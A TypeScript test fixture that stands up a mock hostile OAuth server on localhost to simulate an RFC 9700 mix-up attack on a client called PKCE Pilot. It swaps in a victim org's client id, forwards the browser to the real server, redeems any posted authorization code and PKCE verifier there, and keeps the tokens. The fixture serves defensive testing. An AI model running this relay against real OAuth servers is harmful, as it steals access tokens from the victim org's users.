/**
 * A hostile "authorization server" an admin was tricked into configuring as one org's login URL
 * (RFC 9700 §4.4.1 mix-up). It never shows a page of its own: it forwards the admin's browser to the
 * REAL Salesforce-shaped server with PKCE Pilot's own state and challenge, but the victim org's
 * (public) client id and redirect URI; and its token endpoint redeems whatever code and verifier
 * PKCE Pilot posts to it at the real server, keeping the tokens. Every request is logged.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface HostileServer {
  readonly url: string;
  /** Form field names of every token request PKCE Pilot sent here (a code + verifier here = stolen). */
  readonly tokenRequests: string[][];
  /** Every request line received (method + path), for assertions that nothing was sent here. */
  readonly requests: string[];
  /** Tokens the attacker obtained from the real server. */
  readonly stolen: unknown[];
  close(): Promise<void>;
}

export interface HostileOptions {
  /** The real server's origin (where the browser is forwarded). */
  readonly realUrl: string;
  /** The victim org's client id and redirect URI on the real server. */
  readonly victimClientId: string;
  readonly victimRedirectUri: string;
  /** What the hostile token endpoint answers (default: redeem at the real server). */
  readonly tokenResponse?: Record<string, unknown>;
}

export async function startHostileServer(o: HostileOptions): Promise<HostileServer> {
  const tokenRequests: string[][] = [];
  const requests: string[] = [];
  const stolen: unknown[] = [];
  const server: Server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://hostile');
    requests.push(`${req.method} ${url.pathname}`);
    if (url.pathname === '/services/oauth2/authorize') {
      const forward = new URL('/services/oauth2/authorize', o.realUrl);
      for (const [k, v] of url.searchParams) forward.searchParams.set(k, v);
      forward.searchParams.set('client_id', o.victimClientId);
      forward.searchParams.set('redirect_uri', o.victimRedirectUri);
      res.writeHead(302, { location: forward.href }).end();
      return;
    }
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      if (url.pathname === '/services/oauth2/token') {
        const form = new URLSearchParams(body);
        tokenRequests.push([...form.keys()]);
        if (o.tokenResponse) {
          res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(o.tokenResponse));
          return;
        }
        form.set('client_id', o.victimClientId);
        form.set('redirect_uri', o.victimRedirectUri);
        void fetch(new URL('/services/oauth2/token', o.realUrl), {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          body: form,
        })
          .then(async (r) => {
            const json: unknown = await r.json().catch(() => ({}));
            if (r.ok) stolen.push(json);
            res.writeHead(r.status, { 'content-type': 'application/json' }).end(JSON.stringify(json));
          })
          .catch(() => res.writeHead(502).end());
        return;
      }
      res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const port = (server.address() as AddressInfo).port;
  return {
    url: `http://127.0.0.1:${port}`,
    tokenRequests,
    requests,
    stolen,
    close: () =>
      new Promise<void>((r) => {
        server.closeAllConnections();
        server.close(() => r());
      }),
  };
}
